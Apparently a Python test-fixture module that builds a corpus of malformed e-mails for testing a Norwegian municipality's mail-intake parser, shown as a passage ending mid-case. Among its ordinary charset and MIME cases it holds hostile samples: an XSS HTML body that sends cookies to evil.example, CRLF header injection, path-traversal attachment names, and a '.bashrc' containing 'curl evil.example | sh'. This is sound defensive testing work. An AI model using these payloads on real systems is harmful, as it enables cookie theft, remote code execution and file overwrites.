"""Awkward, real-world-shaped e-mail a Norwegian municipality's mailbox receives.

``CORPUS`` is a list of ``(name, raw RFC 5322 bytes)`` pairs: odd charsets,
encoded headers, broken MIME, huge headers, bounces, auto-replies, attachments
with hostile names. Every message is built here from literals and small
builders (no files, no network); every one is different bytes and under
300 KB. All but the deliberately broken ``garbage_bytes_no_headers`` and
``empty_bytes`` carry a sender address somewhere (From, Sender, Reply-To or
Return-Path).
"""

from __future__ import annotations

import base64

CRLF = b"\r\n"
TO = "To: Alver kommune <postmottak@alver.kommune.no>"
DATE = "Date: Mon, 23 Nov 2026 08:14:03 +0100"
MIME = "MIME-Version: 1.0"

# A few bytes that look like the files they claim to be.
PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
    b"%%EOF\n"
)
DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml" + bytes(range(64))
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
TNEF = b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00" * 8
PKCS7 = b"0\x82\x06\x1f\x06\t*\x86H\x86\xf7\r\x01\x07\x02\xa0\x82\x06\x100\x82\x06\x0c" * 12
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run"

CORPUS: list[tuple[str, bytes]] = []


def _case(name: str, raw: bytes) -> None:
    CORPUS.append((name, raw))


def _crlf(data: bytes) -> bytes:
    """Every line ending as CRLF (the builders below write plain LF)."""
    return data.replace(b"\r\n", b"\n").replace(b"\n", CRLF)


def _head(*lines: str) -> bytes:
    return "\n".join(lines).encode("ascii") + b"\n"


def _mail(*headers: str, body: bytes = b"") -> bytes:
    """ASCII headers, a blank line and ``body``, all with CRLF."""
    return _crlf(_head(*headers) + b"\n" + body)


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data)


def _b64word(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _part(*headers: str, body: bytes = b"") -> bytes:
    return _head(*headers) + b"\n" + body


def _multipart(boundary: str, *parts: bytes, close: bool = True, preamble: bytes = b"") -> bytes:
    """A multipart body (without its own Content-Type header)."""
    fence = b"--" + boundary.encode("ascii")
    out = preamble
    for part in parts:
        out += fence + b"\n" + part.rstrip(b"\n") + b"\n"
    if close:
        out += fence + b"--\n"
    return out


def _text(text: str, charset: str = "utf-8") -> bytes:
    return text.encode(charset).replace(b"\r\n", b"\n")


HEI = "Hei!\n\nEg lurer på når de handsamar søknaden min om byggeløyve på Ærøy.\n"
HEI += "Det gjeld garasjen ved sjøen. Øvre grense er 50 m².\n\nHelsing Åse Ødegård\n"


# --- Charsets ---------------------------------------------------------------

_case(
    "latin1_body_8bit",
    _mail(
        "From: =?iso-8859-1?q?=C5se_=D8deg=E5rd?= <ase.odegard@example.no>",
        TO,
        "Subject: =?iso-8859-1?q?S=F8knad_om_byggel=F8yve?=",
        DATE,
        "Message-ID: <latin1-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: 8bit",
        body=_text(HEI, "iso-8859-1"),
    ),
)

_case(
    "windows1252_body_smart_quotes_euro",
    _mail(
        "From: =?windows-1252?q?Per_H=E6stad?= <per.haestad@example.com>",
        TO,
        "Subject: Faktura for vatn og avlaup",
        DATE,
        "Message-ID: <cp1252-1@example.com>",
        "X-Mailer: Microsoft Outlook 16.0",
        MIME,
        'Content-Type: text/plain; charset="Windows-1252"',
        "Content-Transfer-Encoding: 8bit",
        body=_text(
            "Hei \u2013 eg har fått ei faktura på 4 512 € for \u201cvatn og avlaup\u201d.\n"
            "Det stemmer ikkje \u2026 Kan de sjå på det? ÆØÅ æøå\n",
            "windows-1252",
        ),
    ),
)

_case(
    "utf8_body_8bit",
    _mail(
        "From: =?utf-8?q?Bj=C3=B8rn_=C3=85sheim?= <bjorn@example.no>",
        TO,
        "Subject: =?utf-8?q?Br=C3=B8yting_av_vegen_til_Sk=C3=A5lev=C3=A5gen?=",
        DATE,
        "Message-ID: <utf8-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=utf-8; format=flowed",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Vegen til Skålevågen er ikkje brøyta. Snøen ligg 40 cm djup. ÆØÅ æøå\n"),
    ),
)

_case(
    "declared_utf8_but_latin1_body",
    _mail(
        "From: kari@example.no",
        TO,
        "Subject: Feil teiknsett",
        DATE,
        "Message-ID: <wrongcs-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body=_text(
            "Søppeldunken på Bøvågen vart ikkje tømd. Kvifor får eg ikkje svar?\n", "latin-1"
        ),
    ),
)

_case(
    "missing_charset_8bit_latin1",
    _mail(
        "From: ola.nordmann@example.com",
        TO,
        "Subject: Gatelys",
        DATE,
        "Message-ID: <nocs-1@example.com>",
        MIME,
        "Content-Type: text/plain",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Gatelyset ved Frekhaug kyrkje er øydelagt. Mvh Ola Økland\n", "latin-1"),
    ),
)

_case(
    "unknown_charset_x_unknown_42",
    _mail(
        "From: =?x-unknown-42?q?Ola_N=F8rdmann?= <ola@example.net>",
        TO,
        "Subject: =?x-unknown-42?q?Sp=F8rsm=E5l?=",
        DATE,
        "Message-ID: <unknowncs-1@example.net>",
        MIME,
        "Content-Type: text/plain; charset=x-unknown-42",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Kvar kan eg levere hageavfall? Blåbærlyng og småstein.\n", "latin-1"),
    ),
)

_case(
    "content_type_header_garbage",
    _mail(
        "From: <siri@example.no>",
        TO,
        "Subject: Rar Content-Type",
        DATE,
        "Message-ID: <ctgarbage-1@example.no>",
        MIME,
        'Content-Type: ;;; charset=="utf-8; name',
        "Content-Transfer-Encoding: 7bit",
        body=b"Kan de ringe meg? Nummeret er 912 34 567.\n",
    ),
)

# --- RFC 2047 headers -------------------------------------------------------

_case(
    "rfc2047_subject_q_latin1",
    _mail(
        "From: trude@example.no",
        TO,
        "Subject: =?ISO-8859-1?Q?Klage_p=E5_vedtak_om_eigedomsskatt?=",
        DATE,
        "Message-ID: <q-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Sjaa vedlagt klage.\n",
    ),
)

_case(
    "rfc2047_subject_and_from_b_utf8",
    _mail(
        "From: =?UTF-8?B?" + base64.b64encode("Øystein Ærvik".encode()).decode() + "?=",
        " <oystein@example.com>",
        TO,
        "Subject: =?UTF-8?B?" + base64.b64encode("Søknad om skjenkeløyve".encode()).decode() + "?=",
        DATE,
        "Message-ID: <b-1@example.com>",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        body=_b64("Søknaden ligg ved. Mvh Øystein\n".encode()),
    ),
)

_case(
    "rfc2047_mixed_q_b_and_plain",
    _mail(
        "From: =?iso-8859-1?q?M=E5ns?= =?utf-8?b?w5hzdGVy?= <mans@example.se>",
        TO,
        "Subject: Re: =?utf-8?q?Sp=C3=B8rsm=C3=A5l?= om =?iso-8859-1?b?5XJzYXZnaWZ0?= (sak 12)",
        DATE,
        "Message-ID: <mixed-1@example.se>",
        "In-Reply-To: <2026.000012.1@alver.kommune.no>",
        "References: <2026.000012.1@alver.kommune.no>",
        "Content-Type: text/plain; charset=utf-8",
        body=b"Takk for svar.\n",
    ),
)

_case(
    "rfc2047_folded_split_encoded_words",
    # UTF-8 letters split between two encoded words (not allowed by RFC 2047,
    # seen in the wild), over folded lines with space and tab.
    _mail(
        "From: =?utf-8?q?Ingrid_?=",
        " =?utf-8?q?Fl=C3=A5?=",
        "\t<ingrid@example.no>",
        TO,
        "Subject: =?utf-8?B?" + _b64word("Søknad om tilskott til ".encode()) + "?=",
        " =?utf-8?B?" + _b64word("symjeranlegg på Bøvågen i Sk".encode() + b"\xc3") + "?=",
        "\t=?utf-8?B?" + _b64word(b"\xa5" + "levågen".encode()) + "?=",
        " =?utf-8?Q?_(=C3=A6?= =?utf-8?Q?=C3?= =?utf-8?Q?=B8=C3=A5)?=",
        DATE,
        "Message-ID: <folded-1@example.no>",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Sjå tittel.\n"),
    ),
)

_case(
    "rfc2047_broken_encoded_words",
    _mail(
        "From: =?utf-8?q?Ola_N=C3=B8rd <ola.broken@example.no>",
        TO,
        "Subject: =?utf-8?q?S=C3=B8knad_om =?utf-8?x?abc?= =?utf-8?b?###?=",
        " =?utf-8?b?U8O4a25hZA?= =?utf-8?q?=C3?= =?utf-8??slutt?=",
        DATE,
        "Message-ID: <brokenew-1@example.no>",
        "Content-Type: text/plain; charset=utf-8",
        body=b"Hei.\n",
    ),
)

_case(
    "rfc2047_unknown_charset_in_subject_and_name",
    _mail(
        'From: "=?x-mac-norse?q?=BF=BE?=" <mac@example.no>',
        TO,
        "Subject: =?koi8-r?b?9MXT1A==?= =?x-unknown-42?b?w7h5?=",
        DATE,
        "Message-ID: <unknownew-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Test.\n",
    ),
)

_case(
    "subject_newline_injection_in_encoded_word",
    _mail(
        "From: angriper@example.net",
        TO,
        "Subject: =?utf-8?q?hei=0D=0ABcc:_x@evil.example?=",
        DATE,
        "Message-ID: <inject-1@example.net>",
        "Content-Type: text/plain; charset=utf-8",
        body=b"Hei\n",
    ),
)

_case(
    "from_name_newline_injection_in_encoded_word",
    _mail(
        "From: =?utf-8?q?Kari=0D=0ABcc:_x@evil.example?= <kari.inject@example.net>",
        TO,
        "Subject: =?utf-8?b?" + base64.b64encode(b"Hei\r\n\tTo: y@evil.example").decode() + "?=",
        DATE,
        "Message-ID: <inject-2@example.net>",
        "Content-Type: text/plain; charset=utf-8",
        body=b"Hei igjen\n",
    ),
)

_case(
    "raw_8bit_utf8_headers",
    _crlf(
        "From: Åse Ødegård <åse@example.no>, <ase@example.no>\n".encode()
        + "Subject: Søknad om løyve \u2013 Ærlig talt, når?\n".encode()
        + _head(TO, DATE, "Message-ID: <8bithead-1@example.no>", MIME)
        + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _text(HEI)
    ),
)

_case(
    "raw_8bit_latin1_headers",
    _crlf(
        "From: Bjørn Sæterø <bjorn.saetero@example.no>\n".encode("latin-1")
        + "Subject: Spørsmål om gravferd på Hjelmås\n".encode("latin-1")
        + _head(TO, DATE, "Message-ID: <8bithead-2@example.no>")
        + b"Content-Type: text/plain; charset=iso-8859-1\n\n"
        + _text("Når kan vi få gravstøtta på plass?\n", "latin-1")
    ),
)

_case(
    "empty_subject",
    _mail(
        "From: Ola <ola.empty@example.no>",
        TO,
        "Subject: ",
        DATE,
        "Message-ID: <emptysubj-1@example.no>",
        "Content-Type: text/plain; charset=utf-8",
        body=b"(ingen emne)\n",
    ),
)

# --- Transfer encodings -----------------------------------------------------

_case(
    "base64_body_utf8",
    _mail(
        "From: Lise <lise@example.org>",
        TO,
        "Subject: Barnehageplass",
        DATE,
        "Message-ID: <b64-1@example.org>",
        MIME,
        'Content-Type: text/plain; charset="utf-8"',
        "Content-Transfer-Encoding: base64",
        body=_b64(("Eg søkjer barnehageplass for dottera mi frå august.\n" * 8).encode()),
    ),
)

_case(
    "quoted_printable_body_latin1",
    _mail(
        "From: =?iso-8859-1?q?Gunnhild_Kl=E6boe?= <gunnhild@example.no>",
        TO,
        "Subject: Kommunale avgifter",
        DATE,
        "Message-ID: <qp-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: quoted-printable",
        body=b"Hei! Eg har f=E5tt for h=F8g rekning for renovasjon, og eg lurer p=E5 kvifor=\n"
        b" det er slik. =C6RLEG TALT =D8NSKJER eg ei forklaring. Helsing =C5se=20\n"
        b"Lang linje=3D ok=\n=\n",
    ),
)

_case(
    "truncated_invalid_base64_body",
    _mail(
        "From: sjekk@example.no",
        TO,
        "Subject: Avkutta base64",
        DATE,
        "Message-ID: <b64bad-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        body=b"RWcgc8O4a2plciBvbSBz\nw7hrbmFkIG9tIGJ5Z2dlbMO4eXZl!!*&^%$\nU8O4a25h\n",
    ),
)

_case(
    "uuencoded_body",
    _mail(
        "From: gammal.klient@example.no",
        TO,
        "Subject: uuencode",
        DATE,
        "Message-ID: <uue-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=us-ascii",
        "Content-Transfer-Encoding: x-uuencode",
        body=b"begin 644 melding.txt\n,2&5I(&MO;6UU;F4*\n`\nend\n",
    ),
)

_case(
    "unknown_transfer_encoding",
    _mail(
        "From: rart@example.no",
        TO,
        "Subject: Ukjend koding",
        DATE,
        "Message-ID: <cte-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: x-gzip64",
        body=b"H4sIAAAAAAAAA/NIzcnJVyjPL8pJAQBX8JCtDAAAAA==\n",
    ),
)

# --- Multipart structures ---------------------------------------------------

_case(
    "multipart_alternative_text_html",
    _mail(
        "From: Nils <nils@example.no>",
        TO,
        "Subject: =?utf-8?q?Parkering_ved_r=C3=A5dhuset?=",
        DATE,
        "Message-ID: <alt-1@example.no>",
        MIME,
        'Content-Type: multipart/alternative; boundary="=_alt_001"',
        body=_multipart(
            "=_alt_001",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: quoted-printable",
                body=b"Kvifor er det parkeringsavgift ved r=C3=A5dhuset no?\n",
            ),
            _part(
                "Content-Type: text/html; charset=utf-8",
                "Content-Transfer-Encoding: quoted-printable",
                body=b"<html><body><p>Kvifor er det parkeringsavgift ved <b>r=C3=A5dhuset</b>=\n"
                b" no?</p></body></html>\n",
            ),
            preamble=b"This is a multi-part message in MIME format.\n\n",
        ),
    ),
)

_case(
    "html_only_with_script_and_onclick",
    _mail(
        "From: nettskjema@example.com",
        "Reply-To: Marte <marte@example.com>",
        TO,
        "Subject: Skjema: melding om feil",
        DATE,
        "Message-ID: <html-1@example.com>",
        MIME,
        "Content-Type: text/html; charset=windows-1252",
        "Content-Transfer-Encoding: 8bit",
        body=_text(
            '<!DOCTYPE html><html><head><script>alert("xss")</script>'
            '<style>p{color:red}</style></head><body onload="steal()">'
            "<p onclick=\"document.location='https://evil.example/?c='+document.cookie\">"
            "Vassrøyret på Søre Ålvik har sprunge \u2013 gata er full av vatn.</p>"
            '<a href="javascript:alert(1)">Klikk</a><img src=x onerror="alert(2)">'
            '<iframe src="https://evil.example/"></iframe></body></html>\n',
            "windows-1252",
        ),
    ),
)

_case(
    "multipart_mixed_pdf_and_docx",
    _mail(
        "From: Advokatfirmaet Berg <post@berg-advokat.example>",
        TO,
        "Subject: =?iso-8859-1?q?Klage_p=E5_vedtak_i_sak_2026/1234?=",
        DATE,
        "Message-ID: <mixed-att-1@berg-advokat.example>",
        MIME,
        'Content-Type: multipart/mixed; boundary="----=_Part_1_2"',
        body=_multipart(
            "----=_Part_1_2",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit",
                body=_text("Vi viser til vedtak og legg ved klage og fullmakt.\n"),
            ),
            _part(
                'Content-Type: application/pdf; name="Klage 2026-1234.pdf"',
                'Content-Disposition: attachment; filename="Klage 2026-1234.pdf"; size=300',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF),
            ),
            _part(
                "Content-Type: application/vnd.openxmlformats-officedocument."
                "wordprocessingml.document",
                "Content-Disposition: attachment;",
                " filename*=iso-8859-1'nn'Fullmakt%20%C6%D8%C5.docx",
                "Content-Transfer-Encoding: base64",
                body=_b64(DOCX),
            ),
        ),
    ),
)

_case(
    "rfc2231_filename_continuation_and_charset",
    _mail(
        "From: Eirik <eirik@example.no>",
        TO,
        "Subject: Teikningar",
        DATE,
        "Message-ID: <rfc2231-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="rfc2231"',
        body=_multipart(
            "rfc2231",
            _part("Content-Type: text/plain; charset=us-ascii", body=b"Sjaa vedlegg.\n"),
            _part(
                "Content-Type: application/pdf;",
                " name*=utf-8''s%C3%B8knad.pdf",
                "Content-Disposition: attachment;",
                " filename*0*=utf-8''s%C3%B8knad%20om%20byggel%C3%B8yve%20;",
                " filename*1*=Fj%C3%A6rlandsvegen%2012%20;",
                ' filename*2="rev B.pdf"',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF),
            ),
            _part(
                "Content-Type: application/octet-stream",
                "Content-Disposition: attachment; filename*=x-unknown-42''%E6%F8%E5.bin",
                "Content-Transfer-Encoding: base64",
                body=_b64(b"\x00\x01\x02"),
            ),
        ),
    ),
)

_case(
    "rfc2047_encoded_attachment_filename",
    # Outlook and others put RFC 2047 words in quoted file names (RFC 2231 is
    # the standard). This name's base64 contains "/", so a name that is not
    # decoded gets cut there.
    _mail(
        "From: Hanne <hanne@example.no>",
        TO,
        "Subject: Vedlegg med koda namn",
        DATE,
        "Message-ID: <rfc2047name-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="q2047"',
        body=_multipart(
            "q2047",
            _part("Content-Type: text/plain; charset=us-ascii", body=b"Vedlegg.\n"),
            _part(
                'Content-Type: application/pdf; name="=?utf-8?B?'
                + base64.b64encode("Søknad ÆØÅ ??? æøå.pdf".encode()).decode()
                + '?="',
                'Content-Disposition: attachment; filename="=?utf-8?B?'
                + base64.b64encode("Søknad ÆØÅ ??? æøå.pdf".encode()).decode()
                + '?="',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF),
            ),
        ),
    ),
)

_case(
    "multipart_related_inline_image_cid",
    _mail(
        "From: =?utf-8?q?Tor_Sm=C3=A5bruk?= <tor@example.no>",
        TO,
        "Subject: Hol i vegen",
        DATE,
        "Message-ID: <related-1@example.no>",
        "X-MS-Has-Attach: yes",
        MIME,
        'Content-Type: multipart/related; type="multipart/alternative";',
        '\tboundary="_rel_"',
        body=_multipart(
            "_rel_",
            _part(
                'Content-Type: multipart/alternative; boundary="_alt_"',
                body=_multipart(
                    "_alt_",
                    _part(
                        "Content-Type: text/plain; charset=utf-8",
                        body=_text("Sjå biletet av holet.\n[cid:image001.png@01DB3D2A.5C1F0E40]\n"),
                    ),
                    _part(
                        "Content-Type: text/html; charset=utf-8",
                        body=_text(
                            "<p>Sjå biletet av holet.</p>"
                            '<img src="cid:image001.png@01DB3D2A.5C1F0E40"'
                            ' width="1" height="1">\n'
                        ),
                    ),
                ),
            ),
            _part(
                'Content-Type: image/png; name="image001.png"',
                "Content-Description: image001.png",
                'Content-Disposition: inline; filename="image001.png"; size=67',
                "Content-ID: <image001.png@01DB3D2A.5C1F0E40>",
                "Content-Transfer-Encoding: base64",
                body=_b64(PNG),
            ),
            _part(
                "Content-Type: image/jpeg",
                "Content-ID: <utan-namn@example.no>",
                "Content-Transfer-Encoding: base64",
                body=_b64(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(40) + b"\xff\xd9"),
            ),
        ),
    ),
)

_INNER = _crlf(
    _head(
        "From: =?iso-8859-1?q?Ragnhild_B=F8e?= <ragnhild@example.no>",
        "To: Sakshandsamar <sakshandsamar@alver.kommune.no>",
        "Subject: =?iso-8859-1?q?Klage_p=E5_vedtak_i_sak_2026/1234?=",
        "Date: Fri, 20 Nov 2026 16:02:11 +0100",
        "Message-ID: <inner-1@example.no>",
        MIME,
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: 8bit",
    )
    + b"\n"
    + _text("Eg klagar på vedtaket. Grunngjeving følgjer.\n", "latin-1")
)

_case(
    "forwarded_message_rfc822",
    _mail(
        "From: Sakshandsamar <sakshandsamar@alver.kommune.no>",
        TO,
        "Subject: VS: =?utf-8?q?Klage_p=C3=A5_vedtak_i_sak_2026/1234?=",
        DATE,
        "Message-ID: <fwd-1@alver.kommune.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="fwd"',
        body=_multipart(
            "fwd",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                body=_text("Denne høyrer til postmottak, sjå vedlagt.\n"),
            ),
            _part("Content-Type: message/rfc822", "Content-Disposition: attachment", body=_INNER),
            _part("Content-Type: message/rfc822", body=b""),
        ),
    ),
)

_case(
    "forwarded_message_rfc822_base64_encoded",
    # Not allowed by RFC 2046, sent anyway by some Exchange versions.
    _mail(
        "From: videresending@example.no",
        TO,
        "Subject: Fw: melding",
        DATE,
        "Message-ID: <fwd-2@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="fwd64"',
        body=_multipart(
            "fwd64",
            _part("Content-Type: text/plain; charset=us-ascii", body=b"FYI\n"),
            _part(
                'Content-Type: message/rfc822; name="Klage.eml"',
                'Content-Disposition: attachment; filename="Klage.eml"',
                "Content-Transfer-Encoding: base64",
                body=_b64(_INNER),
            ),
        ),
    ),
)

_ICS = _crlf(
    _text(
        "BEGIN:VCALENDAR\nMETHOD:REQUEST\nPRODID:Microsoft Exchange Server 2019\nVERSION:2.0\n"
        "BEGIN:VEVENT\nORGANIZER;CN=Guro Lønning:mailto:guro@example.no\n"
        "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:postmottak@al\n"
        " ver.kommune.no\nSUMMARY;LANGUAGE=nn-NO:Synfaring på Øvre Ålvik\n"
        "DTSTART;TZID=W. Europe Standard Time:20261130T100000\n"
        "DTEND;TZID=W. Europe Standard Time:20261130T110000\n"
        "UID:040000008200E00074C5B7101A82E00800000000\nSEQUENCE:0\nEND:VEVENT\nEND:VCALENDAR\n"
    )
)

_case(
    "calendar_invitation_request",
    _mail(
        "From: =?utf-8?q?Guro_L=C3=B8nning?= <guro@example.no>",
        TO,
        "Subject: Synfaring =?utf-8?q?p=C3=A5_=C3=98vre_=C3=85lvik?=",
        DATE,
        "Message-ID: <cal-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="cal_mixed"',
        body=_multipart(
            "cal_mixed",
            _part(
                'Content-Type: multipart/alternative; boundary="cal_alt"',
                body=_multipart(
                    "cal_alt",
                    _part(
                        "Content-Type: text/plain; charset=utf-8",
                        body=_text("Synfaring på Øvre Ålvik måndag 30. november kl. 10.\n"),
                    ),
                    _part(
                        'Content-Type: text/calendar; charset="utf-8"; method=REQUEST',
                        "Content-Transfer-Encoding: base64",
                        body=_b64(_ICS),
                    ),
                ),
            ),
            _part(
                'Content-Type: application/ics; name="invite.ics"',
                'Content-Disposition: attachment; filename="invite.ics"',
                "Content-Transfer-Encoding: base64",
                body=_b64(_ICS),
            ),
        ),
    ),
)

_case(
    "calendar_invitation_toplevel_text_calendar",
    _mail(
        "From: kalender@example.no",
        TO,
        "Subject: Invitasjon: Synfaring",
        DATE,
        "Message-ID: <cal-2@example.no>",
        MIME,
        "Content-Type: text/calendar; method=REQUEST; charset=UTF-8",
        "Content-Transfer-Encoding: 8bit",
        body=_ICS,
    ),
)

_case(
    "multipart_missing_closing_boundary",
    _mail(
        "From: Terje <terje@example.no>",
        TO,
        "Subject: Avkutta melding",
        DATE,
        "Message-ID: <noclose-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="open"',
        body=_multipart(
            "open",
            _part("Content-Type: text/plain; charset=utf-8", body=_text("Her er søknaden.\n")),
            _part(
                'Content-Type: application/pdf; name="soknad.pdf"',
                'Content-Disposition: attachment; filename="soknad.pdf"',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF)[:60],
            ),
            close=False,
        ),
    ),
)

_case(
    "multipart_without_boundary_parameter",
    _mail(
        "From: Vigdis <vigdis@example.no>",
        TO,
        "Subject: Manglar boundary",
        DATE,
        "Message-ID: <noboundary-1@example.no>",
        MIME,
        "Content-Type: multipart/mixed",
        body=b"--\nContent-Type: text/plain\n\nHei, kjem dette fram?\n----\n",
    ),
)

_case(
    "multipart_empty_boundary_and_no_parts",
    _mail(
        "From: tom.multipart@example.no",
        TO,
        "Subject: Tom multipart",
        DATE,
        "Message-ID: <emptymp-1@example.no>",
        MIME,
        'Content-Type: multipart/alternative; boundary=""',
        body=b"\n",
    ),
)


def _nested(depth: int) -> bytes:
    """``depth`` levels of multipart/mixed around one text part."""
    inner = _part("Content-Type: text/plain; charset=utf-8", body=_text("Djupt nede: æøå\n"))
    for level in range(depth - 1, 0, -1):
        inner = _part(
            f'Content-Type: multipart/mixed; boundary="lvl{level}"',
            body=_multipart(f"lvl{level}", inner),
        )
    return _multipart("lvl0", inner)


_case(
    "deep_nesting_30_levels",
    _mail(
        "From: djup@example.no",
        TO,
        "Subject: 30 lag",
        DATE,
        "Message-ID: <deep-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="lvl0"',
        body=_nested(30),
    ),
)


def _tiny_attachments(count: int) -> bytes:
    parts = [_part("Content-Type: text/plain; charset=utf-8", body=_text("50 skannar.\n"))]
    kinds = ("image/jpeg", "application/pdf", "text/plain", "application/octet-stream")
    for number in range(1, count + 1):
        kind = kinds[number % len(kinds)]
        parts.append(
            _part(
                f'Content-Type: {kind}; name="skann-{number:02}.dat"',
                f'Content-Disposition: attachment; filename="skann-{number:02}.dat"',
                "Content-Transfer-Encoding: base64",
                body=_b64(bytes([number]) * number),
            )
        )
    return _multipart("many", *parts)


_case(
    "fifty_tiny_attachments",
    _mail(
        "From: Skanner <skanner@example.no>",
        TO,
        "Subject: Skanna dokument",
        DATE,
        "Message-ID: <fifty-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="many"',
        body=_tiny_attachments(50),
    ),
)

# --- Attachment names -------------------------------------------------------

_case(
    "attachment_path_traversal_unix",
    _mail(
        "From: lur@example.net",
        TO,
        "Subject: Dokument",
        DATE,
        "Message-ID: <traversal-1@example.net>",
        MIME,
        'Content-Type: multipart/mixed; boundary="trav"',
        body=_multipart(
            "trav",
            _part("Content-Type: text/plain", body=b"Sjaa vedlegg.\n"),
            _part(
                'Content-Type: text/plain; name="../../etc/passwd"',
                'Content-Disposition: attachment; filename="../../etc/passwd"',
                body=b"root:x:0:0:root:/root:/bin/bash\n",
            ),
            _part(
                "Content-Type: application/octet-stream",
                "Content-Disposition: attachment;",
                "\tfilename*=utf-8''..%2F..%2F.ssh%2Fauthorized_keys",
                "Content-Transfer-Encoding: base64",
                body=_b64(b"ssh-ed25519 AAAA evil\n"),
            ),
            _part(
                "Content-Type: application/octet-stream",
                'Content-Disposition: attachment; filename=".bashrc"',
                body=b"curl evil.example | sh\n",
            ),
            _part(
                "Content-Type: application/octet-stream",
                'Content-Disposition: attachment; filename="..."',
                body=b"dots\n",
            ),
            _part(
                "Content-Type: application/octet-stream",
                'Content-Disposition: attachment; filename="/"',
                body=b"slash\n",
            ),
        ),
    ),
)

_case(
    "attachment_path_traversal_windows",
    _mail(
        "From: lur@example.org",
        TO,
        "Subject: Faktura",
        DATE,
        "Message-ID: <traversal-2@example.org>",
        MIME,
        'Content-Type: multipart/mixed; boundary="win"',
        body=_multipart(
            "win",
            _part("Content-Type: text/plain", body=b"Faktura vedlagt.\n"),
            _part(
                'Content-Type: application/x-msdownload; name="C:\\Windows\\evil.exe"',
                'Content-Disposition: attachment; filename="C:\\\\Windows\\\\evil.exe"',
                "Content-Transfer-Encoding: base64",
                body=_b64(EXE),
            ),
            _part(
                "Content-Type: application/octet-stream",
                "Content-Disposition: attachment; filename=..\\..\\..\\boot.ini",
                body=b"[boot loader]\n",
            ),
            _part(
                "Content-Type: application/pdf",
                'Content-Disposition: attachment; filename="\\\\server\\share\\.faktura.pdf"',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF),
            ),
        ),
    ),
)

# --- Broken framing and odd structure ---------------------------------------

_case(
    "no_message_id",
    _mail(
        "From: Gamal Klient <gamal@example.no>",
        TO,
        "Subject: Utan Message-ID",
        DATE,
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Min gamle e-postklient set ikkje Message-ID.\n",
    ),
)

_case(
    "duplicate_message_id_first",
    _mail(
        "From: Nyheitsbrev <nyheiter@example.com>",
        TO,
        "Subject: =?utf-8?q?Sp=C3=B8rsm=C3=A5l_1?=",
        DATE,
        "Message-ID: <same@example.com>",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Første melding: kvar er bossbilen?\n"),
    ),
)

_case(
    "duplicate_message_id_second",
    _mail(
        "From: Nyheitsbrev <nyheiter@example.com>",
        TO,
        "Subject: Sporsmal 2",
        "Date: Mon, 23 Nov 2026 08:20:44 +0100",
        "Message-ID: <same@example.com>",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Andre melding, ny tekst: kvifor er biblioteket stengt?\n"),
    ),
)

_case(
    "malformed_message_id_and_references",
    _mail(
        "From: Rotete <rotete@example.no>",
        TO,
        "Subject: Re: Re: Re: sak",
        DATE,
        "Message-ID: <<broken@@example.no>",
        "In-Reply-To: 2026.000001.1@alver.kommune.no (utan vinkelparentesar)",
        "References: <a@b> garbage <c@ <>",
